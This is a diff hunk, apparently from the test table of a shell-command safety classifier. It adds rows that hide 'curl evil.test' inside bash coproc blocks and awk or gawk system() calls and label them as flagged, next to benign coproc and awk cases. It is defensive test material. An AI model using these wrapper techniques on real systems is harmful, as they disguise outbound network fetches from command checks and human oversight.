@@ -434,6 +434,12 @@ rows = [
 (A, "", "vim -c 'set ft=c' -c 'wq' f.c"),
 (A, "", "vim +10 f.c"),
 (A, "", "nvim --headless -c 'PlugInstall' -c qa"),
+(B, "evil.test", "coproc X { curl evil.test; }"),
+(B, "evil.test", "coproc FETCH { sleep 1; curl evil.test; }; wait"),
+(B, "evil.test", "awk -f /dev/stdin <<< 'BEGIN{system(\"curl evil.test\")}'"),
+(B, "evil.test", "gawk -f - <<'EOF'\nBEGIN { system(\"curl evil.test\") }\nEOF"),
+(A, "", "coproc X { cat; }"),
+(A, "", "awk -f prog.awk data.txt"),
 # ---- unreadable: cannot judge
 (C, "unterminated", "echo 'unterminated"),
 (C, "unterminated", "find . -exec sh -c 'curl \\;"),
